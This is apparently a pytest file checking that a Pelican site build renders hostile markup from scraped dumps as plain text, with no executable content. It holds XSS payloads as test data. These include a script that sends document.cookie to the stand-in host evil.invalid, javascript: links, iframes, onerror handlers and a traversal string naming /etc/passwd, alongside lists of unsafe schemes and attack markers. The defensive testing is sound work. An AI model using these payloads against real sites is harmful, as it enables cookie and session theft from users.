"""Hostile markup in a dump, whatever its shape, builds into pages with nothing that can run.

One real Pelican build of ``hostile_markup.txt``, an HTML page made of the same attacks
(and more that only markup can carry), and a crawl file holding both; every page of the
output is parsed and searched for anything executable the dump could have brought.
"""

import json
import re
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from tests.conftest import REPO, VARIANTS
from tests.test_build import build, make_site

HOSTILE_TEXT = VARIANTS / "hostile_markup.txt"
HOSTILE_HTML = REPO / "tests" / "fixtures" / "hostile_markup.html"
HTML_URL = "https://insightcrime.org/news/brief/gang-leader-escapes/"
RECORD_URLS = ("https://insightcrime.org/news/brief/record-text/", "https://insightcrime.org/news/brief/record-html/")

TITLE = "<script>alert('title')</script> Gang Leader Escapes"
# The attacks of hostile_markup.txt, which every brief made from it shows as text.
ATTACK_TEXTS = (
    "A gang leader escaped from a prison <script>document.location='http://evil.invalid/?c='+document.cookie"
    "</script> during a riot.",
    'Officials posted a [link](javascript:alert(1)) and <iframe src="http://evil.invalid"></iframe> about the case.',
    "{% raw %}{{ SITEURL }}{% endraw %} and {filename}/../../etc/passwd should stay text.",
)
# What only an HTML page can carry, shown as text in its brief.
HTML_ONLY_TEXTS = (
    "A code span <script>alert('code')</script> and a trailing attribute list {: onclick=\"alert('attr')\" }",
    "</pre><script>alert('fence')</script>",
    "<img src=x onerror=alert('pre')>",
    "North | <b>bold</b>",
    "<script>alert('li')</script>",
    "</blockquote><script>alert('quote')</script>",
    "# <b>not a heading</b>",
    "~~~ not a fence",
)
URL_ATTRIBUTES = ("href", "src", "action", "formaction", "poster", "data", "xlink:href", "background", "cite", "srcset")
UNSAFE_SCHEMES = ("javascript:", "data:", "vbscript:")
MARKERS = ("alert(", "evil.invalid", "document.cookie", "msgbox(")
"""Strings of the attacks that must never be inside a script, a style or a URL of the output."""


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Path:
    if not VARIANTS.is_dir():
        pytest.skip("../shared/dumps/variants is not beside this checkout")
    root = tmp_path_factory.mktemp("hostile")
    make_site(root, [HOSTILE_TEXT, HOSTILE_HTML])
    raw = root / "content" / "raw"
    (raw / "sources.csv").write_text(f"file,url\nhostile_markup.html,{HTML_URL}\n", encoding="utf-8")
    records = [
        {"url": RECORD_URLS[0], "text": HOSTILE_TEXT.read_text(encoding="utf-8")},
        {"url": RECORD_URLS[1], "html": HOSTILE_HTML.read_text(encoding="utf-8")},
    ]
    (raw / "crawl.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    result = build(root)
    (root / "build.log").write_text(result.stdout + result.stderr, encoding="utf-8")
    return root


# What the theme itself makes, which no dump can inject: search forms, charts, the inline favicon.
THEME_MADE = "form[role=search], svg.year-chart, link[rel=icon]"


def output_pages(site: Path) -> dict[str, BeautifulSoup]:
    """Every built page, without the elements the theme makes itself."""
    pages = {}
    for path in sorted((site / "output").rglob("*.html")):
        soup = BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")
        for element in soup.select(THEME_MADE):
            element.decompose()
        pages[str(path.relative_to(site / "output"))] = soup
    return pages


def hostile_briefs(site: Path) -> dict[str | None, BeautifulSoup]:
    """The four built briefs by their source URL (``None`` for the text page, which has none)."""
    briefs = {}
    for brief in sorted((site / "content" / "briefs").glob("*.md")):
        source = re.search(r"^source: (.+)$", brief.read_text(encoding="utf-8"), re.MULTILINE)
        page = site / "output" / "briefs" / brief.stem / "index.html"
        briefs[source[1] if source else None] = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
    return briefs


def page_text(soup: BeautifulSoup) -> str:
    """The page's visible text, spacing collapsed; theme-independent, so the whole body."""
    return " ".join(soup.body.get_text().split())


def test_the_four_hostile_briefs_are_built(site):
    assert sorted(hostile_briefs(site), key=str) == sorted([None, HTML_URL, *RECORD_URLS], key=str)


def test_no_script_from_the_dump_reaches_any_page(site):
    for name, soup in output_pages(site).items():
        for script in soup.find_all("script"):
            if script.get("type") == "application/ld+json":
                json.loads(script.string or "")  # data, not code
                continue
            code = (script.string or "") + (script.get("src") or "")
            assert not any(marker in code for marker in MARKERS), f"{name}: {script}"
            assert not re.match(r"^\s*(?:[a-z]+:)?//", script.get("src") or ""), f"{name}: {script}"


def test_no_frame_object_form_or_base_reaches_any_page(site):
    for name, soup in output_pages(site).items():
        found = soup.find_all(["iframe", "frame", "object", "embed", "applet", "form", "base", "svg", "math"])
        assert found == [], name
        assert soup.find("meta", attrs={"http-equiv": True}) is None, name


def test_no_style_from_the_dump_reaches_any_page(site):
    for name, soup in output_pages(site).items():
        for style in soup.find_all("style"):
            assert not any(marker in (style.string or "") for marker in MARKERS), name
        for tag in soup.find_all(style=True):
            assert not re.search(r"url\(|expression\(|javascript", tag["style"], re.IGNORECASE), f"{name}: {tag}"


def test_no_event_handler_attribute_reaches_any_page(site):
    for name, soup in output_pages(site).items():
        for tag in soup.find_all(True):
            handlers = [attribute for attribute in tag.attrs if attribute.lower().startswith("on")]
            assert handlers == [], f"{name}: <{tag.name} {handlers}>"


def test_no_javascript_or_data_url_reaches_any_page(site):
    for name, soup in output_pages(site).items():
        for tag in soup.find_all(True):
            for attribute in URL_ATTRIBUTES:
                value = tag.get(attribute)
                if value is None:
                    continue
                # As a browser reads a URL: control characters and spaces do not count.
                url = re.sub(r"[\x00-\x20]", "", " ".join(value) if isinstance(value, list) else value).lower()
                assert not url.startswith(UNSAFE_SCHEMES), f"{name}: {tag}"
                assert not any(marker in url for marker in MARKERS), f"{name}: {tag}"


@pytest.mark.parametrize("source", [None, HTML_URL, *RECORD_URLS])
def test_the_attack_strings_show_as_text(site, source):
    soup = hostile_briefs(site)[source]
    assert TITLE in [heading.get_text() for heading in soup.find_all("h1")]
    assert soup.title.get_text().startswith(TITLE)
    text = page_text(soup)
    for attack in ATTACK_TEXTS:
        assert attack in text, attack
    if source in (HTML_URL, RECORD_URLS[1]):
        for attack in HTML_ONLY_TEXTS:
            assert attack in text, attack


def test_pelican_and_jinja_syntax_in_text_stay_literal(site):
    for soup in hostile_briefs(site).values():
        text = page_text(soup)
        assert "{filename}/../../etc/passwd" in text
        assert "{{ SITEURL }}" in text and "{% raw %}" in text
        for link in soup.find_all(href=True):
            assert "{" not in link["href"] and "}" not in link["href"], link
    assert "Unable to find" not in (site / "build.log").read_text(encoding="utf-8")


def test_html_page_keeps_its_safe_content(site):
    soup = hostile_briefs(site)[HTML_URL]
    assert soup.find("a", href="https://insightcrime.org/reports/prisons/").get_text() == "the source"
    assert soup.find("em", string="read the report") is not None
    image = soup.find("img", src="https://insightcrime.org/images/cell.jpg")
    assert image["alt"] == "<script>alert('alt')</script> A cell"
    assert [cell.get_text() for cell in soup.find_all("td")] == ["North | <b>bold</b>", "3"]
    text = page_text(soup)
    assert "The last paragraph of the brief ends here." in text
    for gone in ("hidden text", "svg text", "math text"):
        assert gone not in text, gone
    assert "Live links lose their scripts: a script link, an encoded one" in text
    assert soup.find("a", string="a script link") is None


def test_markup_in_page_metadata_never_becomes_a_name(site):
    names = [p.name for folder in ("tags", "authors", "topics") for p in (site / "output" / folder).iterdir()]
    assert not any("script" in name or "img" in name or "alert" in name for name in names), names
    assert (site / "output" / "tags" / "prison-breaks" / "index.html").is_file()
